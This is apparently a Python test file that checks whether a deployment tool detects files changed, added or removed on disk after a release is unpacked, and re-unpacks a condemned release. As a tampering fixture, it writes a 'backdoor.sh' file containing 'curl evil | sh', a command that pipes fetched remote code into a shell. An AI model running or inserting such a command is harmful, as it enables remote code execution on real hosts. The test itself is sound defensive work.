"""A release unpacked on a host remembers its files, so a change made on disk is told."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

from lockgate import hostside

DIGEST = "d" * 64


def _bundle(tmp_path: Path) -> Path:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as tar:
        for name, text in (("app.py", "print('hi')\n"), ("lib/util.py", "X = 1\n")):
            info = tarfile.TarInfo(name)
            info.size = len(text)
            tar.addfile(info, io.BytesIO(text.encode()))
    bundle = tmp_path / "bundle.tar.gz"
    bundle.write_bytes(data.getvalue())
    return bundle


def test_changes_on_disk_are_named_and_a_condemned_release_is_unpacked_again(
    tmp_path: Path,
) -> None:
    fleet = tmp_path / "fleet"
    release = hostside.release(fleet, 0, _bundle(tmp_path), DIGEST)
    assert hostside.release_changes(fleet, 0, DIGEST) == []
    (release / "__pycache__").mkdir()
    (release / "__pycache__" / "util.cpython-311.pyc").write_bytes(b"cache")  # not a change
    assert hostside.release_changes(fleet, 0, DIGEST) == []
    (release / "app.py").write_text("print('patched')\n")
    (release / "lib" / "util.py").unlink()
    (release / "backdoor.sh").write_text("curl evil | sh\n")
    assert hostside.release_changes(fleet, 0, DIGEST) == [
        "changed: app.py",
        "added: backdoor.sh",
        "removed: lib/util.py",
    ]
    assert hostside.release_changes(fleet, 1, DIGEST) is None  # never unpacked there

    hostside.condemn(fleet, 0, DIGEST)
    assert (release / hostside.DIGEST_FILE).read_text().strip() == hostside.ALTERED
    again = hostside.release(fleet, 0, _bundle(tmp_path), DIGEST)  # the next start
    assert (again / "app.py").read_text() == "print('hi')\n"
    assert not (again / "backdoor.sh").exists()
    assert hostside.release_changes(fleet, 0, DIGEST) == []
